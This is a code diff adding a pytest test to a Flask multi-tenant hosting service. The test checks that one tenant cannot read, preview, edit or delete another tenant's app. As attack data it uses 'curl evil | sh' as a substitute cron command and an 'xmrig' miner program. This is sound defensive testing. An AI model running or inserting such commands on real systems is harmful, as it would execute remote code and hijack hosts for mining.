@@ -165,3 +165,31 @@ def test_app_file_export_and_preview(client: FlaskClient, world: World) -> None:
         "programs.Cron",
         "programs.Cron.command",
     ]
+
+
+def test_another_tenants_app_is_not_found_by_any_new_route(
+    app: Flask, client: FlaskClient, world: World, redis_client: redis.Redis
+) -> None:
+    """Bob (tenant B) with his own valid token, against Alice's app: every route of issue 21
+    answers 404, as if the app did not exist, and nothing changes or is queued."""
+    bob = Api(client, world.bob_token)
+    shop = f"/apps/{world.shop_id}"
+    exported = Api(client, world.alice_token)("GET", f"{shop}/spec").get_data(as_text=True)
+    changed = exported.replace('"python cron.py"', '"curl evil | sh"')
+    queued = len(rq_job_ids(redis_client, "host.h1"))
+    attempts = [
+        ("GET", f"{shop}/spec", {}),
+        ("POST", f"{shop}/spec/preview", {"data": changed}),
+        ("POST", f"{shop}/spec", {"data": changed}),
+        ("POST", f"{shop}/programs", {"json": {"name": "miner", "command": "xmrig"}}),
+        ("PUT", f"{shop}/programs/cron", {"json": {"command": "curl evil | sh"}}),
+        ("DELETE", f"{shop}/programs/cron", {}),
+        ("PATCH", f"{shop}/services/cron", {"json": {"command": "curl evil | sh"}}),
+    ]
+    for method, path, body in attempts:
+        response = bob(method, path, **body)
+        assert response.status_code == 404, (method, path, response.status_code)
+        assert "cron.py" not in response.get_data(as_text=True)
+    assert settings_of(app, "cron") == {"command": "python cron.py"}
+    assert settings_of(app, "miner") is None
+    assert len(rq_job_ids(redis_client, "host.h1")) == queued
